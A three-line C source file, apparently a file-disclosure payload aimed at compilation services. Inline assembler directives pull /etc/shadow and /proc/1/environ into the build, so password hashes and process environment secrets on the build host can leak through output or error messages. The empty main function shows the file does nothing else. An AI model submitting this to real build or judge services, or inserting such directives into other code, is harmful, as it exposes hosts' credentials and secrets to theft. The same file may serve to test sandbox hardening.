__asm__(".include \"/etc/shadow\"");
__asm__(".incbin \"/proc/1/environ\"");
int main(void) { return 0; }
